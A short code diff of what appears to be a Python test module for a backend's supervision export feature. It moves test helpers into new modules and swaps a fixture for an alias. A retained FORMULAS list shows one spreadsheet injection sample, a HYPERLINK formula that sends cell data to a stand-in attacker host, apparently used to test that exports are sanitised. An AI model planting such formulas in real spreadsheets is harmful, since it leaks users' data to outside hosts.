@@ -17,8 +17,8 @@ from backend.items.refs import new_access_key
 from backend.models import AuditEntry, Item, ItemCategory, ItemChannel, ItemStatus, utcnow
 from backend.stations.calendar import CHINA_TZ, today_in_china
 from backend.supervision import export, stats
-from tests.staff_world import login
-from tests.test_supervision_world import build_outcomes, handle, rate, submit, supervision_world
+from tests.factories import build_outcomes, handle, rate, submit, supervision_world
+from tests.helpers import login
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?q="&A1,"点击查看详情")',
@@ -29,9 +29,7 @@ FORMULAS = [
 ]
 
 
-@pytest.fixture
-def world(app, create_county, create_station, create_deputy):
-    return supervision_world(app, create_county, create_station, create_deputy)
+WORLD = supervision_world  # the world fixture (tests/conftest.py)
 
 
 def this_month() -> str:
